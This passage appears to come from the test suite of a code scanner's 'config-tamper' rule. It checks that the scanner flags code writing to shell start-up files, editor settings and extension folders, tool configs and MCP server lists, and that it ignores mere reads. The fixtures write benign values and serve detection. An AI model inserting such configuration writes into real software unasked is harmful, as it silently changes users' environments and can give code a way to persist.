    assert.deepEqual(only('config-tamper', 'const cp=require("child_process");cp.execSync("gemini mcp add x npx x");cp.execSync("qwen mcp add -s user x npx x")').map(f => f.evidence.find(e => e.startsWith('writes '))), ['writes */.gemini/settings.json', 'writes ~/.qwen/settings.json']);
    assert.deepEqual(only('config-tamper', 'const cp=require("child_process");cp.execSync("codex mcp add x -- npx -y srv --help")').map(f => f.severity), ['high'], "a --help given to the server's own command, after --");
  });

  // Review of this stop's change (code review): cases a first version got wrong.
  it("takes a name holding a start-up file's own name for the place, not a suffix; keeps a line that says \"or\" whole", () => {
    const rc = 'const fs=require("fs"),os=require("os");function install(line){const home=os.homedir()+"/";const rc=".bashrc";fs.appendFileSync(`${home}${rc}`,line)}';
    assert.deepEqual(only('config-tamper', rc).map(f => `${f.severity} ${f.message}`), ['medium Writes shell start-up file (*.bashrc)']);
    const or = 'const cp=require("child_process");cp.execSync(\'echo "alias ll=ls # for bash or zsh" >> ~/.zshrc\')';
    assert.deepEqual(only('config-tamper', or).map(f => f.severity), ['medium']);
  });

  it('follows the insert a shell line template redirects into (echo … >> ${rc}), not one it only reads', () => {
    const code = 'const{execSync}=require("child_process"),path=require("path"),os=require("os");module.exports=()=>{const rc=path.join(os.homedir(),".zshrc");execSync(`echo "export X=1" >> ${rc}`)}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Runs a command that writes shell start-up file: echo "export X=1" >> *']);
    const reads = 'const{execSync}=require("child_process"),path=require("path"),os=require("os");module.exports=()=>{const rc=path.join(os.homedir(),".zshrc");execSync(`grep PATH ${rc} > /tmp/out`)}';
    assert.deepEqual(only('config-tamper', reads), []);
  });

  it('answers after a long chain of method calls (no search nested in another) and still reports the write beside it', () => {
    const chain = Array.from({ length: 2000 }, (_, i) => `const a${i + 1}=a${i}.m();`).join('');
    const code = `const fs=require("fs"),os=require("os");class C{m(){return this}}function f(){const a0=new C();${chain}fs.writeFileSync(a2000,"x")}function g(){fs.appendFileSync(os.homedir()+"/.zshrc","export X=1")}`;
    const found = scanWith(RULES, code, { ownVendors: [] });
    assert.deepEqual(found.filter(f => f.ruleId === 'config-tamper').map(f => f.message), ['Writes shell start-up file (~/.zshrc)']);
  });

  it('leaves commands that only read or name a start-up file or a preference list', () => {
    const reads = [
      'const cp=require("child_process");cp.execSync("plutil -convert json -o - ~/Library/Preferences/com.apple.Terminal.plist")',
      'const cp=require("child_process");cp.execSync("cat ~/.zshrc | grep PATH")',
      'const cp=require("child_process");cp.execSync("grep -q X ~/.bashrc > /tmp/out")',
      'const cp=require("child_process"),os=require("os");cp.execFileSync("code",[os.homedir()+"/.zshrc"])',
      'const cp=require("child_process"),os=require("os");cp.execFileSync("cp",[os.homedir()+"/.zshrc","/tmp/zshrc.bak"])',
      'const cp=require("child_process"),p=require("path"),os=require("os");const f=p.join(os.homedir(),"Library","Preferences","com.apple.Terminal.plist");cp.execFileSync("/usr/libexec/PlistBuddy",["-c",`Print :Default Window Settings`,f])',
      'const cp=require("child_process");cp.execFileSync("defaults",["read","com.apple.Terminal","Default Window Settings"])',
    ];
    for (const code of reads) assert.deepEqual(only('config-tamper', code), [], code);
  });

  // CodeBuddy (corpus): Ghostty's config backed up as `${Ac}.bak` in a block that declares `Al` again; the function's own `Al` lists the config.
  it("takes a block's own let of a name for another variable: what was pushed onto the function's is not its value", () => {
    const code = 'const AK=require("fs"),AH=require("path"),AL=require("os");function setup(){let Al=[];Al.push(AH.join(AL.homedir(),".config","ghostty","config"));let Ac=null;for(let An of Al)if(AK.existsSync(An)){Ac=An;break}Ac||(Ac=Al[0]);if(AK.existsSync(Ac)){let Al=`${Ac}.bak`;AK.copyFileSync(Ac,Al)}AK.writeFileSync(Ac,"keybind = x")}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Writes Ghostty configuration (fs.writeFileSync)']);
  });

  // Claude Code 2.1.200 (review 90): an atomic write's temporary file named with a suffix the caller of its naming helper keeps in a name.
  it("takes a name a suffix is kept in (`${file}${l}`, l = `.tmp.${pid}`), also through a helper's parameter, for another file", () => {
    const code = 'const fs=require("fs"),fsp=fs.promises,path=require("path"),crypto=require("crypto");async function retry(e,t,n=fsp.rename){for(let o=0;;o++)try{return await n(e,t)}catch(s){if(o<3)continue;throw s}}function staging(dir,file,suffix){const o=`${file}${suffix}`;if(!dir)return o;return path.join(dir,path.basename(o))}async function atomicWrite(e,t,n={}){const s=e;const l=`.tmp.${process.pid}.${crypto.randomBytes(6).toString("hex")}`;const c=staging(n.stagingDir,s,l);const d=await fsp.open(c,"wx");try{await d.writeFile(t)}finally{await d.close()}await retry(c,s,(m,g)=>fsp.rename(m,g))}async function saveMcp(cfg){await atomicWrite(path.join(process.cwd(),".mcp.json"),JSON.stringify(cfg),{stagingDir:path.join(process.cwd(),".claude","staging")})}async function notes(s){await atomicWrite(path.join(require("os").tmpdir(),"notes.txt"),s)}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`), ['medium Writes project MCP server list (.mcp.json) (fs.promises.rename via atomicWrite())'], 'at the caller, not at the open of the temporary file');
    const named = code.replace('const l=`.tmp.${process.pid}.${crypto.randomBytes(6).toString("hex")}`', 'const l=process.env.SUFFIX');
    assert.ok(only('config-tamper', named).some(f => f.message.includes('(fs.promises.open)')), 'a suffix not known to be one leaves the open a write of the place');
  });

  // Claude Code 2.1.200 (review 90): /terminal-setup's editor folder from a memoised async helper, then keybindings.json and settings.json rewritten.
  it("follows a memoising wrapper's product to the function it wraps (memoize(fn, key)), and an awaited helper inside a join", () => {
    const code = 'const fsp=require("fs").promises,path=require("path"),os=require("os");function Tn(fn,key){const m=new Map();return(...a)=>{const k=key?key(...a):a[0];if(!m.has(k))m.set(k,fn(...a));return m.get(k)}}var TNn;var init=(()=>{TNn=Tn(async(e)=>{let t=(n)=>path.join(os.homedir(),os.platform()==="darwin"?path.join("Library","Application Support",n,"User"):path.join(".config",n,"User"));if(e==="VSCode")return t("Code");return t(e)},(e)=>`${e}:${os.homedir()}`)})();async function kb(e="VSCode"){let n=await TNn(e),r=path.join(n,"keybindings.json");await fsp.writeFile(r,"[]")}async function st(e){let r=path.join(await TNn(e),"settings.json");await fsp.writeFile(r,"{}")}';
    assert.deepEqual(only('config-tamper', code).map(f => `${f.severity} ${f.message}`).sort(), ['medium Writes editor user settings (*/keybindings.json)', 'medium Writes editor user settings (*/settings.json)']);
    const keyOnly = code.replace('m.set(k,fn(...a))', 'm.set(k,fn(k))');
    assert.deepEqual(only('config-tamper', keyOnly), [], "the key resolver is handed the arguments, not the wrapped function: no folder is known");
  });

  // Command Code 1.63.0 (review 95) installs its extension into the editors' extensions folders; Claude Code 2.1.250 (review 92) writes ~/.boto and /etc/bazel.bazelrc.
  it("reports writes into an editor's extensions folder (a table of editor folders), gsutil's .boto and Bazel's bazelrc", () => {
    const ext = 'import*as I from"fs";import*as t from"path";import B from"os";const PE={code:".vscode",cursor:".cursor"};function dir(e){return t.join(B.homedir(),PE[e],"extensions")}export function install(ide,entries){const n=dir(ide);for(const o of entries){const s=t.resolve(t.join(n,"pub.ext-1.0.0"),o.name);I.writeFileSync(s,o.data)}}';
    assert.deepEqual(only('config-tamper', ext).map(f => `${f.severity} ${f.message}`), ['medium Writes editor extensions folder (code the editor runs) (*/pub.ext-1.0.0/*)']);
    const tools = 'import{writeFile as J}from"fs/promises";import{homedir as et}from"os";import{join as L}from"path";async function wn(t,e){await J(e,`[Boto]\nca_certificates_file = ${t}\\n`)}export async function install(t){await wn(t.ca,t.boto??L(et(),".boto"));await J(t.bazelrc??"/etc/bazel.bazelrc","startup --x\\n")}';
    assert.deepEqual(only('config-tamper', tools).map(f => `${f.severity} ${f.message}`).sort(), ['medium Writes Bazel configuration (bazelrc) (/etc/bazel.bazelrc)', 'medium Writes gsutil configuration (.boto) (fs.promises.writeFile)']);
    const other = ext.replace('".vscode"', '".myapp"').replace('".cursor"', '".other"');
    assert.deepEqual(only('config-tamper', other), [], 'an extensions folder of no editor');
  });

  it("leaves the assistant's own configuration and reads of start-up files", () => {
    assert.deepEqual(only('config-tamper', 'const fs=require("fs");function s(h,c){fs.writeFileSync(`${h}/.claude/settings.json`,c)}', ['anthropic']), []);
    assert.deepEqual(only('config-tamper', 'const fs=require("fs");function r(h){return fs.readFileSync(`${h}/.bashrc`,"utf8")}'), []);
  });
});
